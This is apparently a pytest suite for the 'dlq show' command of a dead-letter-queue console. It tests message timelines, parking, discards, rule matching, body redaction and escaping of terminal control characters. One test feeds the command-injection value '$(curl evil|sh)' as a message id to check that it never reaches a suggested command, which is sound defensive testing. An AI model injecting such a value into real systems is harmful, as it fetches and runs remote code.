"""`dlq show` of a message: its time line, where it is, what comes next."""

from __future__ import annotations

import json
import shlex
import time
from collections.abc import Callable, Mapping
from dataclasses import replace
from datetime import datetime
from typing import Any
from unittest.mock import Mock

import pytest

from console.cli.exit import Exit
from deadletter.aws.waiting_room import DynamoDBWaitingRoom
from deadletter.circuit.state import State
from deadletter.contract import PARKED_LANE, Category, Reason, circuit_lane
from deadletter.failure.failure import Failure
from deadletter.failure.fate import GIVEN_BACK, Fate
from deadletter.failure.ledger import AboutLetter
from deadletter.message.letter import Letter
from deadletter.message.stamp import Stamp
from deadletter.replay.run import ReplayRun, RunState
from deadletter.replay.ticket import ReplayOutcome
from deadletter.testing.fakes import client_error
from tests.console.conftest import Cloud, Dlq, FakeLambda, routed

ORIGIN = "8f14e45f-ceea-467f-9575-2a8c1d6e2b11"
COPY = "11111111-ceea-467f-9575-2a8c1d6e2b11"
TRACE = "Root=1-5759e988-bd862e3fe1be46a994272793;Sampled=1"
LIBRARY = {"consumer_library": True}


@pytest.fixture
def recorded(cloud: Cloud) -> Cloud:
    """Pipeline orders, whose consumer records its failures."""
    cloud.deploy("orders", settings=LIBRARY)
    return cloud


def told(dlq: Dlq, *arguments: str) -> dict[str, Any]:
    result = dlq("show", *arguments, "--json", ends=0)
    answer: dict[str, Any] = json.loads(result.stdout)["message"]
    return answer


def wait(cloud: Cloud, lane: str, body: str = "{}", because: str = "test", **stamp: Any) -> None:
    """A copy of the letter that the redriver put into a lane."""
    letter = Letter(COPY, body, system={"AWSTraceHeader": TRACE, "SentTimestamp": "1000"})
    now = int(time.time())
    facts = {"attempt": 2, "first_sent": (now - 60) * 1000, "decision": "HOLD", "at": now - 30}
    mark = Stamp(ORIGIN, **{**facts, **stamp})
    cloud.admit(lane, letter, mark, due=now + 600.0, because=because)


def failed(cloud: Cloud, **facts: Any) -> None:
    said = {"error_type": "ReadTimeout", "message": "no answer", "category": Category.TRANSIENT}
    cloud.failed("orders", ORIGIN, **{**said, **facts})
    cloud.letter("{}")


def test_each_try_is_told_with_the_decision_that_began_its_life(cloud: Cloud, dlq: Dlq) -> None:
    cloud.deploy("orders", "bills", settings=LIBRARY)
    now = time.time()
    failed(cloud, at=now - 3_000, receive=3, request_id="req-1", queue="orders-main")
    failed(
        cloud, at=now - 2_000, attempt=1, http_status=503,
        sent_at=int(now - 2_100), sent_because="attempt 1, backoff of 90 s", sent_rule="slow",
    )  # fmt: skip

    life = told(dlq, ORIGIN)

    assert (life["pipeline"], life["message_id"], life["attempts"]) == ("orders", ORIGIN, 1)
    first, second = life["failures"]
    assert (first["attempt"], first["receive"], first["request_id"]) == (0, 3, "req-1")
    assert (first["error_type"], first["sent_because"]) == ("ReadTimeout", "")
    assert (second["attempt"], second["http_status"], second["waited"]) == (1, 503, 1_000)
    assert (second["sent_because"], second["sent_rule"]) == ("attempt 1, backoff of 90 s", "slow")


@pytest.mark.parametrize("id_", [ORIGIN, COPY])
def test_a_waiting_letter_is_found_by_its_first_life_and_by_its_copy(
    cloud: Cloud, dlq: Dlq, id_: str
) -> None:
    cloud.deploy("bills", "orders", settings=LIBRARY)
    cloud.circuit("orders", "orders", State.OPEN)
    wait(cloud, circuit_lane("orders"), because="circuit orders is OPEN")
    failed(cloud, attempt=2, dependency_down=True)

    life = told(dlq, id_)

    [place] = life["places"]
    waits = (place["where"], place["waiting_for"], place["current_id"])
    assert waits == ("WAITING", "circuit:orders", COPY)
    assert place["because"] == "circuit orders is OPEN"
    assert life["message_id"] == ORIGIN
    assert (life["decision"]["action"], life["decision"]["by"]) == ("HOLD", "message")
    assert life["steps"][0]["command"] == "dlq show circuit:orders --pipeline orders"


def test_a_waiting_letter_without_a_ledger_row_is_found_by_its_first_life(
    cloud: Cloud, dlq: Dlq
) -> None:
    cloud.deploy("orders")
    wait(cloud, "due")

    life = told(dlq, ORIGIN)

    assert life["places"][0]["waiting_for"] == "due"
    assert life["failures"] == []
    # Its delay counts as served when it is due.
    assert (life["decision"]["action"], life["decision"]["delay"]) == ("REDRIVE", 0)


def test_the_trace_of_a_letter_in_a_queue_comes_from_the_ledger(recorded: Cloud, dlq: Dlq) -> None:
    ledger = recorded.ledger()
    for trace in ("1-5759e988-bd862e3fe1be46a994272793", "another"):
        about = AboutLetter(context={"tenantId": "acme"}, size=812, trace=trace)
        ledger.failed(ORIGIN, Failure(time.time(), 0, Category.TRANSIENT), about)

    life = told(dlq, ORIGIN)

    assert life["trace"] == "1-5759e988-bd862e3fe1be46a994272793"
    assert (life["fields"], life["size"]) == ({"tenantId": "acme"}, 812)
    assert life["first_failed"] is not None


def test_a_letter_whose_queues_are_empty_is_gone(recorded: Cloud, dlq: Dlq) -> None:
    recorded.failed("orders", ORIGIN)

    life = told(dlq, ORIGIN)

    assert ([place["where"] for place in life["places"]], life["decision"]) == (["GONE"], None)
    # No record says that it was processed: another could have thrown it away.
    assert life["processed"]["answer"] == "unknown"
    assert [step["command"].split()[-1] for step in life["steps"]] == ["--logs"]


def test_a_letter_that_the_consumer_parked_is_parked_and_can_be_released(
    cloud: Cloud, dlq: Dlq
) -> None:
    queues = {"POISON": "later", "schema": "schema"}
    cloud.deploy("orders", settings={**LIBRARY, "parking": queues})
    failed(cloud, category=Category.SCHEMA, error_type="SchemaError", message="no price")
    ledger = cloud.ledger()
    ledger.parked(ORIGIN, 0, time.time(), str(Reason.PERMANENT))

    life = told(dlq, ORIGIN)

    [place] = life["places"]
    assert (place["where"], place["because"]) == ("PARKED", "SchemaError: no price")
    assert "Parked as PERMANENT" in place["says"]
    assert place["queue"] == "schema"
    assert life["decision"] is None
    commands = [step["command"] for step in life["steps"]]
    assert f'dlq retry {ORIGIN} --pipeline orders --reason "<why>"' in commands


def test_what_a_process_told_too_late_of_a_parked_message_moves_it_nowhere(
    recorded: Cloud, dlq: Dlq
) -> None:
    now = time.time()
    recorded.ledger().note_parked(ORIGIN, now - 100, "CRASH", "")
    failed(recorded, at=now - 50, error_type=str(Fate.UNGUARDED), message=GIVEN_BACK)
    assert told(dlq, ORIGIN)["places"][0]["where"] == "PARKED"
    failed(recorded, at=now - 40, attempt=3)
    assert told(dlq, ORIGIN)["places"][0]["where"] == "QUEUE"


@pytest.mark.parametrize(
    "lane",
    [circuit_lane("orders"), "rule:slow", "rule:it's slow", "delay:it's slow", PARKED_LANE],
)
def test_each_suggested_command_brings_the_reason_that_it_needs(
    recorded: Cloud, dlq: Dlq, lane: str
) -> None:
    wait(recorded, lane)

    for step in told(dlq, ORIGIN)["steps"]:
        result = dlq(*shlex.split(step["command"])[1:])
        assert "needs a reason" not in result.stderr
        assert "Say when" not in result.stderr
        assert result.exit_code != Exit.USAGE or "add --yes" in result.stderr, result.stderr


DISCARDS: dict[str, Any] = {
    "source": "parking:default", "destination": "discard", "who": "user/ann", "why": "a wrong line",
}  # fmt: skip


def discard(cloud: Cloud, *, kept: bool = True) -> ReplayRun:
    """A run that has thrown the letter away, as its execution has left it."""
    run = cloud.replay(
        ReplayRun(id="", pipeline="orders", state=RunState.DONE, counts={"DISCARDED": 1}),
        **DISCARDS,
    )
    cloud.ticket(run.id, ORIGIN, COPY, ReplayOutcome.DISCARDED)
    if kept:
        name = f"replay/orders/{run.id}/discarded/{COPY}.json"
        cloud.s3.put_object(Bucket="messages-bucket", Key=name, Body=b"{}")
    return run


def is_discarded(place: Mapping[str, Any], run: str) -> bool:
    return (place["where"], place["by"], place["because"], place["run"], place["current_id"]) == (
        *("DISCARDED", "user/ann", "a wrong line", run, COPY),
    )


def test_a_discard_is_found_behind_many_later_runs(cloud: Cloud, dlq: Dlq) -> None:
    cloud.deploy("bills", "orders")
    run = discard(cloud)
    assert is_discarded(told(dlq, ORIGIN)["places"][0], run.id)
    cloud.failed("orders", ORIGIN, at=time.time() - 900)
    for number in range(12):
        later = ReplayRun(id=f"{number:016}", pipeline="orders", created=time.time() + number)
        assert cloud.replays("orders").create(later)
    assert is_discarded(told(dlq, ORIGIN)["places"][0], run.id)


@pytest.mark.parametrize("parked_by", ["consumer", "redriver"])
def test_a_discarded_letter_is_said_to_be_discarded_by_whom_when_why_and_where_its_copy_is(
    recorded: Cloud, dlq: Dlq, parked_by: str
) -> None:
    failed(recorded, at=time.time() - 900)
    ledger = recorded.ledger()
    if parked_by == "consumer":
        ledger.parked(ORIGIN, 1, time.time() - 800, "PERMANENT")
    else:
        ledger.note_parked(ORIGIN, time.time() - 800, "POISON", "")
    run = discard(recorded)

    life = told(dlq, ORIGIN)

    [place] = life["places"]
    assert is_discarded(place, run.id)
    assert place["kept"] == f"s3://messages-bucket/replay/orders/{run.id}/discarded/{COPY}.json"
    assert abs(datetime.fromisoformat(place["since"]).timestamp() - time.time()) < 60
    commands = [step["command"] for step in life["steps"]]
    assert f'dlq restore {ORIGIN} --pipeline orders --reason "<why>"' in (commands)
    says = (
        f"{ORIGIN} DISCARDED orders", f"Discarded by user/ann, with run {run.id}.",
        f"run {run.id} by user/ann: a wrong line; discarded as planned", "processed no: ",
    )  # fmt: skip
    dlq(f"show {ORIGIN}", says=says)


def processed_by_a_run(cloud: Cloud) -> None:
    run = cloud.replay(ReplayRun(id="0123456789abcdef", pipeline="orders", state=RunState.DONE))
    cloud.ticket(run.id, ORIGIN, COPY, ReplayOutcome.RECOVERED)


@pytest.mark.parametrize(
    "before",
    [lambda _: None, lambda cloud: cloud.recovered("orders", ORIGIN), discard, processed_by_a_run],
    ids=["nothing", "processed", "discarded", "processed by a run"],
)
def test_a_letter_that_failed_last_of_all_is_in_a_queue(
    recorded: Cloud, dlq: Dlq, before: Callable[[Cloud], None]
) -> None:
    before(recorded)
    recorded.failed("orders", ORIGIN, at=time.time() + 5, attempt=2)

    assert [place["where"] for place in told(dlq, ORIGIN)["places"]] == ["QUEUE"]


def test_an_unknown_id_names_what_can_look_into_the_queues(cloud: Cloud, dlq: Dlq) -> None:
    cloud.deploy("orders", "bills")

    refuses = (
        "Nothing is on record of 'nothing' in bills, orders", "Not searched: the main queue",
        "Not searched: DLQs and parking queues; --look receives",
    )  # fmt: skip
    dlq("show nothing", ends=4, refuses=refuses)


def test_a_malformed_row_is_said_to_be_one(cloud: Cloud, dlq: Dlq) -> None:
    cloud.deploy("orders")
    cloud.put("messages", {"pk": {"S": f"orders#ledger#{ORIGIN}"}, "sk": {"S": "ledger"},
                          "f0_0": {"S": "odd"}})  # fmt: skip

    life = told(dlq, ORIGIN)

    assert "malformed" in life["notes"][0]
    assert life["decision"] is None


def test_a_person_reads_place_decision_history_and_commands(
    recorded: Cloud, dlq: Dlq, functions: FakeLambda
) -> None:
    functions.raises = AssertionError("a function was called")
    now = time.time()
    failed(recorded, at=now - 3_000, message="no answer\x1b[31m")
    failed(recorded, at=now - 2_000, attempt=1, sent_at=int(now - 2_100),
           sent_because="attempt 1, backoff of 90 s", sent_rule="slow")  # fmt: skip

    says = (
        f"{ORIGIN}  QUEUE  orders\n",
        "In a queue, which SQS can't be asked about",
        "goes back to the main queue after",
        "sent back: attempt 1, backoff of 90 s (rule slow)",
        r"ReadTimeout: no answer\x1b[31m",
        f"\n  dlq show {ORIGIN} --look\n",
        f"\n  dlq show {ORIGIN} --logs\n",
    )
    dlq(f"show {ORIGIN}", ends=0, says=says)


@pytest.fixture
def orders(cloud: Cloud, functions: FakeLambda) -> Cloud:
    """A deployed pipeline `orders` whose router really decides."""
    settings = {"context": {"tenantId": "body.tenantId"}, "dedicated": ["bulk"]}
    return routed(cloud, functions, settings, dedicated=["bulk"], context=["tenantId"])


def test_a_look_finds_a_message_that_no_record_knows(orders: Cloud, dlq: Dlq) -> None:
    sent = orders.park("orders", "POISON", body='{"card": "4111-x"}', attempt=3)
    orders.park("orders", "EXPIRED", origin="another")
    dlq(f"show {sent}", ends=Exit.ABSENT)

    found = told(dlq, "first-life", "--look")

    place = found["places"][0]
    is_parked = (place["where"], place["current_id"], place["because"])
    assert is_parked == ("PARKED", sent, "it is POISON")
    assert (found["message_id"], found["attempts"], found["body"]) == ("first-life", 3, None)
    assert found["not_searched"] == []
    assert found["acts"][0]["says"] == "sent by AROA:us"
    assert orders.visible("orders-parking-default") == 2
    assert "4111-x" in dlq(f"show {sent} --look --body").stdout


def test_a_stranger_s_stamp_is_not_believed(orders: Cloud, dlq: Dlq) -> None:
    """Neither is its message shown as another, nor does its text stand in a command."""
    orders.failed("orders", ORIGIN, fingerprint="f1aaaaaa")
    stranger = replace(orders, sqs=orders.queues.as_sender("AIDASTRANGER:x"))
    sent = [
        stranger.letter(
            "{}", Redrive=json.dumps({"origin": each, "attempt": 7, "reason": "POISON"})
        )
        for each in (ORIGIN, "$(curl evil|sh)")
    ]

    life = dlq(
        f"show {sent[1]} --look", says="1 message with an attribute Redrive of another"
    ).stdout
    listed = json.loads(dlq("list --look --json").stdout)["messages"]
    groups = json.loads(dlq("groups --look --in dlq --json").stdout)["groups"]

    assert f"dlq show {sent[1]} --look" in life
    assert "curl" not in life
    assert {(each["message_id"], each["attempts"], each["reason"]) for each in listed} == {
        (ORIGIN, 0, ""),
        *((each, None, "") for each in sent),
    }
    assert [group["messages"] for group in groups if group["name"] == "f1aaaaaa"] == [1]


def test_each_rule_says_why_it_did_or_did_not_match(orders: Cloud, dlq: Dlq) -> None:
    orders.rule("typo", tenantId="a", action="HALT")
    orders.rule("other", tenantId="b", action="HOLD", priority=1)
    orders.rule("stop", "*", tenantId="a", action="QUARANTINE")
    orders.rule("late", tenantId="a", action="HOLD", priority=200)
    sent = orders.letter('{"tenantId": "a", "secret": 4111111111111111}')

    found = told(dlq, sent, "--look", "--rules")

    assert [(rule["rule_id"], rule["outcome"].split(":")[0]) for rule in found["rules"]] == [
        ("typo", "INVALID"),
        ("other", "does not match"),
        ("stop", "matches and speaks"),
        ("late", "matches, but an earlier rule speaks"),
    ]
    assert (found["decision"]["action"], found["decision"]["rule"]) == ("PARK", "stop")
    assert found["next"] == "is parked as QUARANTINED: rule stop says QUARANTINE (rule stop)"
    page = dlq(f"show {sent} --look --rules").stdout
    assert '\n      context.tenantId: expected "b"; found string\n' in page
    assert "4111111111111111" not in page
    assert orders.visible("orders-dlq") == 1


def test_a_rule_that_reads_what_is_not_on_record_says_so(cloud: Cloud, dlq: Dlq) -> None:
    cloud.deploy("orders", settings={"context": {"tenantId": "body.tenantId"}})
    cloud.failed("orders", ORIGIN, AboutLetter({"tenantId": "a"}, "", 12))
    cloud.letter("{}")
    cloud.rule("body", pattern='{"body": {"kind": ["bad"]}}', action="HOLD", priority=1)
    cloud.rule("other", pattern='{"context": {"tenantId": ["b"]}}', action="HOLD", priority=2)
    cloud.rule("stop", pattern='{"context": {"tenantId": ["a"]}}', action="HOLD", priority=3)

    rules = told(dlq, ORIGIN, "--rules")["rules"]

    assert [(rule["rule_id"], rule["outcome"]) for rule in rules] == [
        ("body", "can't be told: it reads body.kind (--look)"),
        ("other", "does not match"),
        ("stop", "matches"),
    ]


def test_a_body_is_shown_only_if_asked_for_and_controls_nothing(cloud: Cloud, dlq: Dlq) -> None:
    cloud.deploy("orders")
    wait(cloud, "due", body='{"card": "4111-x"}\x1b[2J' + "x" * 3_000)
    assert "4111-x" not in dlq(f"show {COPY}").output
    page = dlq(f"show {COPY} --body").stdout
    assert r'{"card": "4111-x"}\x1b[2J' in page
    assert "1,022 more characters: see --json" in page
    assert len(told(dlq, COPY, "--body")["body"]) > 3_000


def test_a_body_that_could_not_be_read_is_said_and_ends_with_1(
    cloud: Cloud, dlq: Dlq, monkeypatch: pytest.MonkeyPatch
) -> None:
    cloud.deploy("orders")
    wait(cloud, "due", body="4111-x")
    denied = client_error("BatchGetItem", "AccessDeniedException", "no")
    monkeypatch.setattr(DynamoDBWaitingRoom, "content", Mock(side_effect=denied))
    page, answer = dlq(f"show {COPY} --body"), dlq(f"show {COPY} --body --json")
    assert (page.exit_code, answer.exit_code) == (Exit.ATTENTION, Exit.ATTENTION)
    says = "The body was not read: that takes the policy BodyReader. AWS refuses BatchGetItem: no"
    assert f"! {says}" in page.stdout
    shown = json.loads(answer.stdout)["message"]
    assert (shown["body"], shown["body_unread"].startswith(says)) == (None, True)
    monkeypatch.setattr(DynamoDBWaitingRoom, "content", Mock(return_value=None))
    dlq(f"show {COPY} --body", ends=Exit.ATTENTION, says="left its place meanwhile")
    assert told(dlq, COPY)["body_unread"] == ""


def test_the_copy_of_a_discarded_message_has_its_body(recorded: Cloud, dlq: Dlq) -> None:
    run = discard(recorded, kept=False)
    without = told(dlq, ORIGIN)
    assert without["places"][0]["kept"] is None
    assert not any("restore" in step["command"] for step in without["steps"])
    recorded.discarded(run.id, Letter(COPY, "the body"), Stamp(ORIGIN))
    assert told(dlq, ORIGIN, "--body")["body"] == "the body"


@pytest.mark.parametrize("answer", [b"", b"{}", b'{"verdict": {"decision": {}}}'])
def test_a_router_that_does_not_explain_is_a_note(
    orders: Cloud, dlq: Dlq, functions: FakeLambda, answer: bytes
) -> None:
    functions.routes, functions.report = False, answer
    sent = orders.letter("{}")
    assert "use the dlq of the version that" in told(dlq, sent, "--look")["notes"][0]
    functions.function_error = "Unhandled"
    functions.report = {"errorType": "RouterUnavailable", "errorMessage": "x\x1b" * 999}
    page = dlq(f"show {sent} --look").stdout
    assert "failed (RouterUnavailable: x" in page
    assert "\x1b" not in page


def test_a_name_of_two_meanings_is_asked_back(cloud: Cloud, dlq: Dlq) -> None:
    cloud.deploy("orders", "stop")
    cloud.rule("stop", tenantId="a", action="HOLD")
    refuses = "'stop' is a rule and a pipeline. Type one of\n  dlq show rule:stop\n"
    dlq("show stop", ends=Exit.USAGE, refuses=refuses)
    assert json.loads(dlq("show pipeline:stop --json").stdout)["kind"] == "pipeline"
